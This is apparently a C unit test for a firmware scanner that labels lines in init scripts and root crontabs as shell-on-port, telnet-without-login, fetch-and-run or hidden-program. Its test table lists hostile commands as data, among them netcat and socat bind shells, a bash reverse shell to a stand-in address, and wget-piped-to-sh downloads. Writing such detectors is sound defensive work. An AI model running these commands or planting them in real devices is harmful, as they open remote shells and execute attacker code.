/* SPDX-License-Identifier: Apache-2.0 */
#include "volume.h"

/* One line of a script or table, and what is said of it; NULL: nothing. */
static void lines_are_told_apart(void **state)
{
	(void)state;
	static const struct {
		const char *path, *line, *want;
	} rows[] = {
		{ "etc/init.d/rcS", "telnetd -l /bin/sh -p 4919 &", "BOOT-LINE/shell-on-port" },
		{ "etc/init.d/rcS", "busybox telnetd -p 2323 -l /bin/ash", "BOOT-LINE/shell-on-port" },
		{ "etc/init.d/rcS", "telnetd -l /bin/sh", "BOOT-LINE/telnet-without-login" },
		{ "etc/init.d/rcS", "telnetd -l /bin/sh -p 23", "BOOT-LINE/telnet-without-login" },
		{ "etc/init.d/rcS", "telnetd -l /bin/sh -p $PORT", "BOOT-LINE/telnet-without-login" },
		{ "etc/init.d/rcS", "telnetd -l /bin/login", NULL },
		{ "etc/init.d/rcS", "telnetd &", NULL },
		{ "etc/init.d/rcS", "nc -l -p 31337 -e /bin/sh &", "BOOT-LINE/shell-on-port" },
		{ "etc/init.d/rcS", "nc -l -p 9000 > /tmp/dump", NULL },
		{ "etc/init.d/rcS", "socat TCP-LISTEN:4444,fork EXEC:/bin/sh", "BOOT-LINE/shell-on-port" },
		{ "etc/init.d/rcS", "bash -i >& /dev/tcp/192.0.2.7/443 0>&1", "BOOT-LINE/shell-on-port" },
		{ "etc/init.d/rcS", "wget -q -O- http://192.0.2.7/s | sh", "BOOT-LINE/fetch-and-run" },
		{ "etc/init.d/rcS", "wget -O /tmp/u http://192.0.2.7/u && chmod 777 /tmp/u && /tmp/u &",
		  "BOOT-LINE/fetch-and-run" },
		{ "etc/init.d/rcS", "wget -O /tmp/list http://192.0.2.7/list", NULL },
		{ "etc/init.d/rcS", "wget -O /tmp/a http://192.0.2.7/a; chmod 600 /tmp/a", NULL },
		{ "etc/init.d/rcS", "echo 'wget x | sh'", NULL },
		{ "etc/init.d/rcS", "/var/.sys/httpd &", "BOOT-LINE/hidden-program" },
		{ "etc/init.d/rcS", ". /etc/init.d/.S99net", "BOOT-LINE/hidden-program" },
		{ "etc/init.d/rcS", ". /etc/functions.sh", NULL },
		{ "etc/init.d/rcS", "../bin/tool", NULL },
		{ "etc/init.d/rcS", "/usr/sbin/httpd &", NULL },
		{ "etc/crontabs/root", "0 */6 * * * wget -q -O- http://192.0.2.7/s | sh", "BOOT-LINE/fetch-and-run" },
		{ "etc/crontabs/root", "*/5 * * * * /usr/bin/ntpclient", NULL },
	};
	for (size_t i = 0; i < GH_COUNT(rows); i++) {
		gh_ctx ctx = gh_test_ctx();
		bool table = strstr(rows[i].path, "cron") != NULL;
		const char *text = gh_arena_printf(ctx.arena, "%s%s\n", table ? "" : "#!/bin/sh\n", rows[i].line);
		gh_check all = gh_check_boot_line;
		all.keeps = gh_check_boot.keeps;
		file files[] = { TEXT(rows[i].path, text) };
		gh_findings found = conclude_on(&ctx, &all, files, 1, NULL);
		EQ(found.count, rows[i].want ? 1 : 0, rows[i].line);
		if (rows[i].want) {
			assert_string_equal(found.first->id, rows[i].want);
			EQ(found.first->evidence[0].line, table ? 1 : 2, rows[i].line);
			EQ(found.first->level, strstr(rows[i].want, "telnet") ? GH_LEVEL_NOTICE : GH_LEVEL_SUSPICIOUS,
			   rows[i].line);
		}
		gh_test_done(&ctx);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = { cmocka_unit_test(lines_are_told_apart) };
	return cmocka_run_group_tests(tests, NULL, NULL);
}
